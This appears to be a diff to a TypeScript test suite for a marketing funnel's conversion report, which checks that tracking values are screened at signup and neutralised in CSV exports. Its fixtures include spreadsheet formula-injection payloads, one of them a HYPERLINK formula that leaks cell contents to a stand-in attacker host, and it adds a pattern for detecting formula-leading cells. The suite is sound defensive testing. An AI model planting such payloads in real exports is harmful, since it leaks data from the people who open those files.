@@ -380,7 +380,7 @@ describe('conversion report', () => {
     expect(csv[0]).toBe(
       'lander,views,signups_started,signups_completed,first_purchases,signup_rate,purchase_rate,cam_clicks',
     );
-    expect(csv[1]).toBe('gallery,5,2,2,1,0.4000,0.5000,1');
+    expect(csv[1]).toBe('"gallery",5,2,2,1,0.4000,0.5000,1');
     expect(csv[3]).toBe(',0,0,0,0,,,1');
     expect(JSON.parse(formatConversionReport(report, 'json'))).toEqual(report);
   });
@@ -396,5 +396,108 @@ describe('conversion report', () => {
     expect(
       (await helper.get('/api/operator/conversion.php?from=2031-03-01&to=2031-03-31')).json.error.code,
     ).toBe('forbidden');
+  });
+});
+
+/** Values a lander's address can carry that a spreadsheet would run as formulas. */
+const HOSTILE = {
+  network: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+  ref: '+SUM(9*9)',
+  sub1: '-2+3',
+  sub2: '@SUM(1+1)',
+  sub3: '\tcmd',
+};
+
+describe('traffic-source values that are not plain words', () => {
+  it('are dropped where the address names them: the cookie keeps only the plain ones', async () => {
+    const query = new URLSearchParams({ ...HOSTILE, sub3: 'banner-7' });
+    const res = await page(`/landers/gallery?${query.toString()}`);
+    expect(JSON.parse(cookieValue(cookieLine(res, 'tracking')))).toEqual({ sub3: 'banner-7' });
+    for (const value of ['a"b', 'a,b', 'a;b', '<b>', "it's", 'x'.repeat(129)]) {
+      const odd = await page(`/landers/gallery?${new URLSearchParams({ sub1: value }).toString()}`);
+      expect(cookieLine(odd, 'tracking')).toBeUndefined();
+    }
+  });
+
+  it('never reach the account or the funnel from a signup, sent or stored', async () => {
+    const client = apiClient();
+    const input = buildSignup({ tracking: { ...HOSTILE, sub3: 'plain_3' } });
+    expect((await client.post('/api/signup.php', input)).status).toBe(201);
+    const [user] = await database().select().from(users).where(eq(users.email, input.email));
+    expect(user).toMatchObject({
+      trackingNetwork: null,
+      trackingRef: null,
+      trackingSub1: null,
+      trackingSub2: null,
+      trackingSub3: 'plain_3',
+    });
+    expect(await eventsOf(user?.id ?? 0)).toEqual([
+      expect.objectContaining({ kind: 'signup_completed', network: null, ref: null, sub3: 'plain_3' }),
+    ]);
+
+    // A cookie holding one counts as no first touch at all.
+    const stored = apiClient();
+    stored.cookies.set('tracking', encodeURIComponent(JSON.stringify({ network: HOSTILE.network })));
+    const second = buildSignup();
+    expect((await stored.post('/api/signup.php', second)).status).toBe(201);
+    const [other] = await database().select().from(users).where(eq(users.email, second.email));
+    expect(other).toMatchObject({ trackingNetwork: null });
+  });
+
+  it('never reach the funnel from the browser’s report or any other caller', async () => {
+    const sent = { kind: 'signup_started', tracking: { network: HOSTILE.ref, sub3: 'hostile-test' } };
+    expect((await apiClient().post('/api/funnel.php', sent)).status).toBe(204);
+    await recordFunnelEvent({
+      kind: 'lander_view',
+      lander: 'gallery',
+      tracking: { ...HOSTILE, sub3: 'hostile-test' },
+    });
+    const rows = await database().select().from(funnelEvents).where(eq(funnelEvents.sub3, 'hostile-test'));
+    expect(rows).toHaveLength(2);
+    for (const row of rows)
+      expect([row.network, row.ref, row.sub1, row.sub2]).toEqual([null, null, null, null]);
+  });
+});
+
+describe('conversion report as CSV', () => {
+  it('defuses every cell a spreadsheet would run as a formula, and quotes the text cells', async () => {
+    // Stored before values were checked at intake.
+    const networks = [...Object.values(HOSTILE), '\rcmd', 'adnet', 'a "quoted", network', '＝1+1'];
+    await database()
+      .insert(funnelEvents)
+      .values(
+        networks.map((network) => ({
+          kind: 'lander_view' as const,
+          lander: 'gallery',
+          network,
+          createdAt: new Date('2032-05-05T10:00:00Z'),
+        })),
+      );
+    const report = await conversionReport({ from: '2032-05-01', to: '2032-05-31', by: 'both' });
+    const csv = formatConversionReport(report, 'csv');
+    const cells = new Map(
+      csv
+        .split('\r\n')
+        .slice(1)
+        .map((line) => {
+          const match = /^"gallery",("(?:[^"]|"")*"),/.exec(line);
+          return [match?.[1] ?? line, line] as const;
+        }),
+    );
+    const quoted = (value: string) => `"${value.replaceAll('"', '""')}"`;
+    for (const value of [...Object.values(HOSTILE), '\rcmd', '＝1+1']) {
+      expect(cells.has(quoted(`'${value}`)), `${JSON.stringify(value)} in\n${csv}`).toBe(true);
+    }
+    expect(cells.has('"adnet"')).toBe(true);
+    expect(cells.has('"a ""quoted"", network"')).toBe(true);
+    // No cell of any line starts a formula once the quotes are read.
+    for (const line of csv.split('\r\n').slice(1)) {
+      const values = [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map((m) =>
+        (m[1] ?? '').replace(/^"|"$/g, '').replaceAll('""', '"'),
+      );
+      for (const value of values) expect(value).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
+    }
+    // The table for the terminal shows no control characters either.
+    expect(formatConversionReport(report, 'table')).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/);
   });
 });
